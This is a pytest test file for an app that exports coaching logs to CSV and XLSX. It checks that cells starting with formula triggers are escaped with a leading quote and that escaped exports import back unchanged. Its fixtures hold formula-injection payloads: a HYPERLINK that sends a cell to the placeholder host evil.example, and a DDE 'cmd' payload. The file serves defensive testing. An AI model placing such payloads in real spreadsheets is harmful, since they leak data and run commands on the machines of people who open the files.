"""Exports never hand a spreadsheet a live formula (CSV and XLSX), and import back unchanged."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from credentials.imports import export_coaching_log, import_records, read_table
from credentials.services import coaching_log_entry_upsert
from lms.spreadsheets import spreadsheet_text
from tests.factories.people import make_trainee

pytestmark = pytest.mark.django_db

DANGEROUS_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
DANGEROUS_CONTACT = "=cmd|' /C calc'!A0"


@pytest.fixture
def ann(db):
    trainee = make_trainee(email="ann@example.org")
    for number, name in enumerate(DANGEROUS_NAMES):
        coaching_log_entry_upsert(
            trainee=trainee,
            client_name=name,
            client_contact=DANGEROUS_CONTACT,
            engagement="individual",
            start_date=dt.date(2024, 2, 1 + number),
            end_date=dt.date(2024, 2, 1 + number),
            paid_hours=Decimal("1.5"),
            pro_bono_hours=Decimal("0"),
        )
    return trainee


def test_csv_cells_that_would_run_start_with_a_quote(ann):
    text = export_coaching_log(trainee=ann, file_format="csv").decode("utf-8-sig")
    for name in DANGEROUS_NAMES:
        assert f",{name}," not in text
    assert "'=HYPERLINK(" in text
    assert "'+1+1" in text and "'-2+3" in text and "'@SUM(A1)" in text
    assert "'=cmd|" in text
    assert ",1.5,0" in text  # the hours stay plain numbers


def test_xlsx_cells_are_literal_strings_and_numbers_stay_numbers(ann):
    content = export_coaching_log(trainee=ann, file_format="xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows(min_row=2):
        name, contact, paid = row[1], row[2], row[7]
        assert name.data_type == "s" and name.value.startswith("'")
        assert contact.data_type == "s" and contact.value == "'" + DANGEROUS_CONTACT
        assert paid.data_type == "n" and paid.value == 1.5


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_escaped_export_imports_back_unchanged(ann, file_format):
    upload = io.BytesIO(export_coaching_log(trainee=ann, file_format=file_format))
    upload.name = f"log.{file_format}"
    report = import_records(
        kind="coaching_log", table=read_table(upload), dry_run=False, only_trainee=ann
    )
    assert (report.ok, report.unchanged, report.created) == (True, len(DANGEROUS_NAMES), 0)


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_trigger_is_escaped(value):
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -1.5, Decimal("-2"), dt.date(2024, 1, 1), None, "Ann"])
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert spreadsheet_text(value) == value
